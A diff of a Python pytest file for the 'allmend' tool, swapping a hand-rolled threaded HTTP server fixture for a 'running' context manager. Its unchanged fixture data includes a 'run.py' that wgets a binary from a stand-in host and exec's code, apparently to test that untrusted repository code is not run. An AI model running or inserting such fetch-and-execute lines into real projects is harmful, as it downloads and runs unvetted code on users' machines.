@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import subprocess
-import threading
 from collections.abc import Iterator
 from functools import partial
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
@@ -15,6 +14,7 @@ import pytest
 
 from allmend.nouns.plan import Plan
 from allmend.verbs.plan import plan
+from listening import running
 
 FILES = {
     "run.py": "import os\nos.system('wget https://inner.example/w.bin')\nexec(open('run.py').read())\n",
@@ -58,13 +58,8 @@ def remote(tmp_path: Path) -> Iterator[str]:
     served.mkdir()
     git("clone", "-q", "--bare", str(work), "tool.git", folder=served)
     git("update-server-info", folder=served / "tool.git")
-    web = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(served)))
-    thread = threading.Thread(target=web.serve_forever)
-    thread.start()
-    yield f"http://127.0.0.1:{web.server_port}/tool.git"
-    web.shutdown()
-    thread.join()
-    web.server_close()
+    with running(ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(served)))) as web:
+        yield f"http://127.0.0.1:{web.server_port}/tool.git"
 
 
 def notebook(folder: Path, *sources: str) -> Path:
